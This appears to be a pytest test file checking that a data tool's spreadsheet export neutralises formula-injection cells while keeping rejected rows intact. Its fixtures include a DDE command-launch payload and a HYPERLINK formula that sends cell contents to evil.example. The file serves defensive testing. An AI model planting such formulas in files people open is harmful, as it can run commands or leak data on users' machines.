"""Cells that a spreadsheet would take for formulas: guarded in what people open, untouched in what is loaded again."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench import cli, workspace
from workbench.views import sheets

FORMULAS = ["=1+1", "=cmd|'/c calc'!A0", "+1-800", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", '=HYPERLINK("http://evil.example/?"&A1)', "-A1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_a_text(text: str) -> None:
    assert sheets.cell(text) == f"'{text}"


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_no_text_is_left_that_begins_as_a_formula_and_no_other_is_changed(text: str) -> None:
    written = sheets.cell(text)
    assert written in (text, f"'{text}")
    assert written == text or text[0] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
    assert written[:1] not in tuple("=@\t\r\n") and (written[:1] not in ("+", "-") or written.lstrip("+-")[:1].isdigit())


def test_numbers_times_and_nulls_stay_as_they_are() -> None:
    frame = pl.DataFrame({"=name": ["=1", None, "-91.5"], "n": [-1, 2, 3], "at": [datetime(2026, 5, 1, tzinfo=UTC)] * 3})
    rows = list(csv.reader(io.StringIO(sheets.csv(frame))))
    assert rows[0] == ["'=name", "n", "at"] and [r[0] for r in rows[1:]] == ["'=1", "", "-91.5"] and [r[1] for r in rows[1:]] == ["-1", "2", "3"]


PLUGIN = """
from workbench.loaders import Part, Source
from workbench.loaders.kit.expressions import column, local_time, text
SOURCE = Source(name='toy', title='a toy', columns=('id', 'when', 'what'), formats=('csv',), parts=(Part('incidents', {'incident_id': text('id'),
    'started_at': local_time(column('when'), '%Y-%m-%d'), 'offence': text('what'), 'nibrs': "'220'"}),))
"""


def test_the_rows_behind_a_finding_open_as_texts_and_rejects_stay_byte_for_byte(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    city = workspace.create(tmp_path / "city", name="Fairwater", zone="UTC").path
    (city / "plugins" / "loaders" / "toy.py").write_text(PLUGIN)
    good = [f"I{n},2026-05-{n:02d},=cmd|'/c calc'!A{n}" for n in range(1, 20)]
    bad = ["=BAD(),=never,+cmd|'/c calc'!A0", "@X,never,-1+2"]
    (tmp_path / "odd.csv").write_text("\n".join(["id,when,what", *good, *bad, ""]), encoding="utf-8")
    report = workspace.load(city, workspace.source(city, "toy"), tmp_path / "odd.csv")
    assert (report.added, report.rejected) == (19, 2)
    assert cli.main(["quality", "incidents", "--behind", "no place", "-w", str(city)]) in (0, None)
    said = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(said)))
    assert sorted(r["offence"] for r in rows) == sorted(f"'=cmd|'/c calc'!A{n}" for n in range(1, 20))
    assert cli.main(["rejects", "export", "last", "-w", str(city)]) in (0, None)
    file = next(p for p in (city / "out").glob("rejects-*.csv") if ".reasons" not in p.name)
    assert file.read_text(encoding="utf-8").splitlines() == ["id,when,what", *bad]
